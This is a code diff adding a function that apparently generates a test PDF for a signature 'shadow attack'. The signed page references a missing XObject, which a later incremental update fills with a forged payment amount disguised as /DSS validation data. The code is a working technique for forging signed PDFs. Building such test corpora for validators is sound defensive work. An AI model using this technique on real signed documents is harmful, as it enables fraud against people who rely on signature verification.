@@ -182,6 +182,31 @@ def evil_annotation(certified: bytes) -> bytes:
     return out.getvalue()
 
 
+def dangling_reference():
+    """Shadow variant: the signed page draws XObject 30, which does not exist
+    when signed (nothing shows); an update adds 30 and lists it in the /DSS
+    as if it were validation data."""
+    text = b"BT /F1 18 Tf 72 760 Td (Giay phep thu nghiem kyso) Tj ET q /X Do Q\n"
+    objs = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 30 0 R >> >> >>",
+        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    signed = sign(pdf_from_objects(objs))
+    evil = b"BT /F1 18 Tf 72 700 Td (So tien: 999.000.000 VND) Tj ET"
+    cat = re.findall(rb"\n1 0 obj\s*(<<.*?>>)\s*endobj", signed, re.S)[-1]
+    cat = cat[:cat.rindex(b">>")] + b" /DSS 31 0 R >>"
+    return append_update(signed, {
+        1: cat,
+        30: b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
+            b"/Length %d >>\nstream\n" % len(evil) + evil + b"\nendstream",
+        31: b"<< /Certs [30 0 R] >>",
+    })
+
+
 def certified_attacks():
     base = minimal_pdf("Van ban chung nhan")
     perms = {1: fields.MDPPerm.NO_CHANGES, 2: fields.MDPPerm.FILL_FORMS, 3: fields.MDPPerm.ANNOTATE}
@@ -258,6 +283,7 @@ def main():
     shadow()
     certified_attacks()
     form_filling()
+    write(f"{OUT}/shadow-dangling-reference-filled-as-dss.pdf", dangling_reference())
 
 
 if __name__ == "__main__":
